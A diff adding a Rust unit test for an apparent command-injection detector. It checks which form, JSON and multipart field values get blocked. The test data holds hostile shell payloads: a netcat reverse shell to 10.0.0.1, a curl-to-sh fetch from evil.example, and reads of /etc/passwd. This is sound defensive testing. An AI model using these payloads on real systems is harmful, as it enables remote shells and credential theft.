@@ -408,3 +408,33 @@ fn calls_of_dotnet_and_parts_of_variables() {
         passes_at(Class::Command, Place::Query, "q", text);
     }
 }
+
+/// `coupon_code` takes no code, and in what does, one line with a command glued to a word is none.
+#[test]
+fn fields_with_code_in_their_names() {
+    use crate::detectors::testing::look;
+    let is_blocked = |place, name: &str, text: &str| look(Class::Command, place, name, text.as_bytes()).1;
+    for place in [Place::Form, Place::Json, Place::MultipartField] {
+        for (name, text) in [
+            ("coupon_code", "x;nc -e /bin/sh 10.0.0.1 4444"),
+            ("zip_code", "$(curl http://evil.example/|sh)"),
+            ("lead_source", "127.0.0.1;id"),
+            ("code", "x;nc -e /bin/sh 10.0.0.1 4444"),
+            ("source", "x|cat /etc/passwd"),
+            ("code", "x$(cat /etc/passwd)"),
+            ("code", ";id"),
+        ] {
+            assert!(is_blocked(place, name, text), "{name}={text}");
+        }
+        for (name, text) in [
+            ("code", "SUMMER-24;FREE"),
+            ("coupon_code", "SUMMER-24;FREE"),
+            ("code", "print(1)\nimport os"),
+            ("source_code", "#!/bin/sh\nx;cat /etc/passwd\ncurl http://a.example/ | sh"),
+            ("code", "a=1; ls -la"),
+            ("script", "npm ci && cat package.json"),
+        ] {
+            assert!(!is_blocked(place, name, text), "{name}={text}");
+        }
+    }
+}
